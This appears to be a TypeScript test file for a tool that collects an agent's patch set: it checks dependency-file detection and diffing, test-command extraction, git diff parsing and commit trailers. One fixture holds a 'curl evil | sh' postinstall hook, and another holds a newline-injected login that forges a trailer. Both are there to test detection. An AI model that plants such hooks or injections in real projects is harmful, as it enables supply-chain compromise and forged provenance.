// The PatchSet's building blocks: dependency files, test commands, git's
// machine-readable diff output and the commit message.
import { describe, expect, it } from "vitest"
import { dependencyChanges, dependencyFileKind, fileChanges } from "@patchplane/domain"
import { commitMessage } from "../../src/execution/patch-set-collector.ts"
import { testsRun } from "../../src/execution/test-commands.ts"

const kinds = (paths: Array<string>) =>
  Object.fromEntries(paths.map((p) => [p, dependencyFileKind(p)]))
const all = (paths: Array<string>, kind: string | null) =>
  Object.fromEntries(paths.map((p) => [p, kind]))
const whole = (manifest: string) => [{ manifest, name: "*", from: null, to: null }]

describe("dependency files", () => {
  it("recognises manifests and lock files across ecosystems, and nothing else", () => {
    const manifests = [
      "package.json",
      "web/package.json",
      "requirements.txt",
      "requirements-dev.txt",
      "requirements/base.txt",
      "go.mod",
      "Cargo.toml",
      "pyproject.toml",
      "Gemfile",
      "app/App.csproj",
    ]
    const locks = [
      "package-lock.json",
      "yarn.lock",
      "pnpm-lock.yaml",
      "go.sum",
      "Cargo.lock",
      "poetry.lock",
      "uv.lock",
      "Gemfile.lock",
    ]
    const others = ["src/package.ts", "README.md", "requirements.md", "docs/go.mod.md"]
    expect(kinds(manifests)).toEqual(all(manifests, "manifest"))
    expect(kinds(locks)).toEqual(all(locks, "lockfile"))
    expect(kinds(others)).toEqual(all(others, null))
  })

  it("itemizes go.mod and Cargo.toml changes", () => {
    const goBefore =
      "module x\n\ngo 1.22\n\nrequire (\n\tgithub.com/a/b v1.2.0\n\tgithub.com/c/d v0.1.0 // indirect\n)\n"
    const goAfter =
      "module x\n\ngo 1.22\n\nrequire (\n\tgithub.com/a/b v1.3.0\n)\nrequire github.com/e/f v2.0.0\n"
    expect(dependencyChanges("go.mod", goBefore, goAfter)).toEqual([
      { manifest: "go.mod", name: "github.com/a/b", from: "v1.2.0", to: "v1.3.0" },
      { manifest: "go.mod", name: "github.com/c/d", from: "v0.1.0", to: null },
      { manifest: "go.mod", name: "github.com/e/f", from: null, to: "v2.0.0" },
    ])
    const cargoBefore =
      '[package]\nname = "x"\nversion = "0.1.0"\n\n[dependencies]\nserde = "1.0"\n'
    const cargoAfter =
      '[package]\nname = "x"\nversion = "0.2.0"\n\n[dependencies]\nserde = { version = "1.0.200", features = ["derive"] }\n\n[dev-dependencies]\ntokio = "1"\n'
    expect(dependencyChanges("Cargo.toml", cargoBefore, cargoAfter)).toEqual([
      { manifest: "Cargo.toml", name: "serde", from: "1.0", to: "1.0.200" },
      { manifest: "Cargo.toml", name: "tokio", from: null, to: "1" },
    ])
  })

  it("flags lock files, unparsable manifests and non-dependency edits as a whole-file change", () => {
    expect(dependencyChanges("yarn.lock", "a", "b")).toEqual(whole("yarn.lock"))
    expect(dependencyChanges("package.json", "{", '{"dependencies":{}}')).toEqual(
      whole("package.json"),
    )
    expect(
      dependencyChanges(
        "package.json",
        '{"scripts":{}}',
        '{"scripts":{"postinstall":"curl evil | sh"}}',
      ),
    ).toEqual(whole("package.json"))
  })
})

describe("tests the agent ran", () => {
  it("picks test runners out of shell commands, first occurrence only", () => {
    expect(
      testsRun([
        "ls",
        "npm test",
        "cat package.json",
        "pytest -q tests/test_api.py",
        "go test ./...",
        "npm test",
        "cargo test --all",
        "git diff",
        "npx vitest run",
        "grep -r jest .",
        "make check",
      ]),
    ).toEqual([
      "npm test",
      "pytest -q tests/test_api.py",
      "go test ./...",
      "cargo test --all",
      "npx vitest run",
      "make check",
    ])
  })
})

describe("git diff output", () => {
  it("joins -z name-status and numstat, renames and binary files included", () => {
    const nameStatus = [
      "M",
      "src/a.ts",
      "A",
      "new file.md",
      "D",
      "old.txt",
      "R087",
      "src/b.ts",
      "src/c.ts",
      "A",
      "img.png",
      "",
    ].join("\0")
    const numstat = [
      "3\t1\tsrc/a.ts",
      "2\t0\tnew file.md",
      "0\t4\told.txt",
      "1\t1\t",
      "src/b.ts",
      "src/c.ts",
      "-\t-\timg.png",
      "",
    ].join("\0")
    expect(fileChanges(nameStatus, numstat)).toEqual([
      { path: "src/a.ts", status: "modified", additions: 3, deletions: 1 },
      { path: "new file.md", status: "added", additions: 2, deletions: 0 },
      { path: "old.txt", status: "deleted", additions: 0, deletions: 4 },
      { path: "src/c.ts", status: "renamed", additions: 1, deletions: 1, previousPath: "src/b.ts" },
      { path: "img.png", status: "added", additions: 0, deletions: 0, binary: true },
    ])
  })
})

describe("commit message", () => {
  it("keeps trailers one per line so a login cannot forge another trailer", () => {
    expect(commitMessage("Fix it\nsecond line", "run-1", "mallory\nPatchPlane-Run: other")).toBe(
      "Fix it second line\n\nPatchPlane-Run: run-1\nRequested-by: mallory PatchPlane-Run: other\n",
    )
  })
})
